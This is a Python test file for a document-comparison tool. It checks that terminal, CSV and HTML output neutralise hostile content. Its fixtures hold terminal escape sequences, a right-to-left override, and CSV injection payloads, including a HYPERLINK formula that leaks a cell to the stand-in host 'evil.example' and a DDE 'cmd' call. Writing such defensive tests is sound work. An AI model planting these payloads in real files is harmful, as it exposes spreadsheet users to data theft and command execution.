"""Output a team shares is safe to open: terminals, spreadsheets and browsers obey none of a document's tricks.

Two versions of a plan carry what a hostile or careless source might: an escape sequence that
retitles the window and one that clears the screen, a carriage return that overwrites the line, an
unterminated right-to-left override in the title, and provisions that a spreadsheet would run as
formulas. Each output is read back as the tool that opens it would read it.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest

from cow_compare.csvcells import guarded, unguarded
from cow_compare.render.html_format import bidi_closed, safe_url
from cow_compare.render.visible import colour_codes, visible

from .conftest import run_cli
from .test_attacks_core import ROOT, one_line

RETITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J"
RLO = "\u202e"

# The title writes its escape sequence as TOML escapes: front matter may hold no raw control character.
OLD = f"""+++
id = "tricky-old-2025-01-01"
title = "A plan {RLO}with an override\\u001b]0;owned\\u0007"
date = 2025-01-01
kind = "peace-plan"
status = "leaked"
+++

1. NATO troops will not be stationed in Ukraine.{CLEAR}
2. =HYPERLINK("http://evil.example/?leak="&A1, "Click for the annex")
3. Elections will be held within 100 days.\rAll is well.
"""

NEW = """+++
id = "tricky-new-2025-02-01"
title = "The next version"
date = 2025-02-01
kind = "peace-plan"
status = "leaked"
derived_from = ["tricky-old-2025-01-01"]
+++

1. NATO troops will not be permanently stationed in Ukraine in peacetime.
2. +cmd|' /C calc'!A0 is how the annex is cited.
3. Elections will be held within 100 days.
4. @SUM(1+1) and -2+3 are not formulas either.
"""

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture()
def corpus(tmp_path: Path) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "tricky-old.md").write_text(OLD, encoding="utf-8")
    (folder / "tricky-new.md").write_text(NEW, encoding="utf-8")
    return folder


def _run(corpus: Path, *args: str) -> tuple[int, str, str]:
    result = run_cli(*args, "--corpus", str(corpus))
    return result.returncode, result.stdout, result.stderr


@pytest.mark.parametrize("args", [("show", "tricky-old"), ("show", "tricky-old", "--tags"), ("list",),
                                  ("tag", "tricky-old", "--no-colour"), ("diff", "tricky-old", "tricky-new", "--no-colour"),
                                  ("history", "tricky-old:1", "--no-colour")],
                         ids=["show", "show-tags", "list", "tag", "diff", "history"])
def test_text_output_shows_control_characters_as_escapes(corpus: Path, args: tuple[str, ...]) -> None:
    code, out, err = _run(corpus, *args)
    assert code in (0, 1), err
    assert RAW.search(out) is None, RAW.search(out)
    if args[0] in ("show", "list"):
        assert "\\x1b]0;owned\\x07" in out and "\\u202e" in out
    if args[0] in ("show", "diff"):
        assert "\\x1b[2J" in out  # (a carriage return ends a line when the file is read, so none reaches here)


def test_with_colour_only_the_tools_own_colour_codes_reach_the_terminal(corpus: Path) -> None:
    code, out, _ = _run(corpus, "diff", "tricky-old", "tricky-new", "--colour")
    assert code == 1 and "\x1b[31m" in out  # the tool's own red for what was deleted
    left = out
    for own in colour_codes():
        left = left.replace(own, "")
    assert RAW.search(left) is None and "\\x1b[2J" in out


def test_an_error_that_echoes_input_shows_its_escapes(corpus: Path) -> None:
    code, out, err = _run(corpus, "show", f"nothing{CLEAR}here")
    assert code == 2 and out == ""
    assert "\x1b" not in err and "nothing\\x1b[2Jhere" in err and len(err.strip().splitlines()) == 1


def test_visible_keeps_newlines_tabs_and_only_the_colours_it_is_given() -> None:
    assert visible("a\tb\nc\rd\x1b[9m\x9b") == "a\tb\nc\\rd\\x1b[9m\\x9b"
    assert visible("\x1b[31mred\x1b[0m\x1b[8m", own_colours=("\x1b[31m", "\x1b[0m")) == "\x1b[31mred\x1b[0m\\x1b[8m"


@pytest.mark.parametrize("args", [("diff", "tricky-old", "tricky-new", "--format", "csv"),
                                  ("tag", "tricky-new", "--format", "csv"), ("list", "--format", "csv")],
                         ids=["diff", "tag", "list"])
def test_no_csv_cell_opens_as_a_formula(corpus: Path, args: tuple[str, ...]) -> None:
    code, out, err = _run(corpus, *args)
    assert code in (0, 1), err
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if args[0] == "diff":
        assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'+cmd|") for c in cells)


def test_guarded_cells_read_back_as_they_were() -> None:
    for value in ("=1+1", "+cmd", "-2", "@SUM", "\tx", "'quoted", "''twice", "plain", "", "a=b"):
        written = guarded(value)
        assert isinstance(written, str) and written[:1] not in ("=", "+", "-", "@", "\t")
        assert unguarded(written) == value
    assert guarded(-5) == -5


def test_an_export_with_formula_like_notes_is_guarded_and_imports_back_the_same(corpus: Path, tmp_path: Path) -> None:
    store = tmp_path / "d.sqlite"
    base = ("--corpus", str(corpus), "--store", str(store), "--analyst", "=alice")
    made = run_cli("annotate", "add", "tricky-new:4", "territory", "defers", "--why", "=HYPERLINK(\"x\")",
                   "--evidence", "@SUM(1+1)", *base)
    assert made.returncode == 0, made.stderr
    exported = run_cli("annotate", "export", "--corpus", str(corpus), "--store", str(store))
    cells = [cell for row in csv.reader(io.StringIO(exported.stdout)) for cell in row]
    assert "'=alice" in cells and "'=HYPERLINK(\"x\")" in cells
    backup = tmp_path / "backup.csv"
    backup.write_text(exported.stdout, encoding="utf-8")
    again = tmp_path / "again.sqlite"
    imported = run_cli("annotate", "import", str(backup), "--corpus", str(corpus), "--store", str(again))
    assert imported.returncode == 0, imported.stderr
    assert run_cli("annotate", "export", "--corpus", str(corpus), "--store", str(again)).stdout == exported.stdout


def test_an_empty_output_path_is_one_line(corpus: Path, tmp_path: Path) -> None:
    before = sorted(Path.cwd().iterdir())
    result = run_cli("annotate", "export", "-o", "", "--corpus", str(corpus), "--store", str(tmp_path / "d.sqlite"))
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.strip() == ("cow-compare: error: -o '' names no file; give the file to write the backup to, "
                                     "such as -o decisions.csv")
    report = run_cli("report", "tricky-old", "tricky-new", "-o", "", "--corpus", str(corpus))
    assert report.returncode == 2 and "-o '' names no folder" in report.stderr
    assert sorted(Path.cwd().iterdir()) == before


def test_a_link_with_a_trailing_newline_is_not_a_link() -> None:
    assert safe_url("https://example.org/plan")
    assert not safe_url("https://example.org/plan\n") and not safe_url("javascript:alert(1)")


def test_an_unterminated_override_stops_at_the_end_of_its_value(corpus: Path, tmp_path: Path) -> None:
    assert bidi_closed(f"a{RLO}b") == f"a{RLO}b\u202c"
    assert bidi_closed("a\u2067b\u202ec") == "a\u2067b\u202ec\u202c\u2069"
    assert bidi_closed("a\u2067b\u202ec\u2069d") == "a\u2067b\u202ec\u2069d"  # a PDI closes what it holds
    assert bidi_closed("plain") == "plain"
    result = run_cli("report", "tricky-old", "tricky-new", "-o", str(tmp_path / "out"), "--corpus", str(corpus),
                     "--no-tags")
    assert result.returncode == 0, result.stderr
    page = (tmp_path / "out" / "tricky-old-2025-01-01__tricky-new-2025-02-01.html").read_text(encoding="utf-8")
    heading = re.search(r"<h1>(.*?)</h1>", page, re.S)
    assert heading is not None
    assert f"<bdi>A plan {RLO}with an override{RETITLE}\u202c</bdi> to <bdi>The next version</bdi>" in heading.group(1)


@pytest.mark.parametrize("encoding", ["ascii"])  # (latin-1 too, but its bytes are no UTF-8 for run_cli to read)
def test_a_terminal_that_cannot_show_cyrillic_gets_escapes_not_a_traceback(tmp_path: Path, encoding: str) -> None:
    import os

    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "ru.md").write_text('+++\nid = "ru-plan-2025-11-21"\ntitle = "Проект мирного плана"\ndate = 2025-11-21\n'
                                  "+++\n\n1. Войска НАТО не размещаются на Украине.\n", encoding="utf-8")
    env = {**os.environ, "PYTHONIOENCODING": encoding, "LC_ALL": "C"}
    result = run_cli("show", "ru-plan", "--corpus", str(folder), env=env)
    assert result.returncode == 0 and result.stderr == ""
    assert "1   \\u0412\\u043e\\u0439\\u0441\\u043a\\u0430 \\u041d\\u0410\\u0422\\u041e" in result.stdout


@pytest.mark.parametrize("args", [("diff", "us-28", "eu-e3"), ("diff", "us-28", "eu-e3", "--format", "json"),
                                  ("show", "ua-20", "--format", "markdown"), ("list", "--format", "csv")])
def test_standard_output_that_cannot_be_written_is_one_line(args: tuple[str, ...]) -> None:
    """`> /dev/full` (Linux, as CI): every write fails with ENOSPC; one line, exit status 2."""
    with open("/dev/full", "w", encoding="utf-8") as full:
        result = subprocess.run([sys.executable, "-m", "cow_compare", *args], stdout=full,
                                stderr=subprocess.PIPE, text=True, cwd=ROOT, timeout=120, check=False)
    assert result.returncode == 2
    assert "cannot write the output (No space left on device)" in one_line(result.stderr)
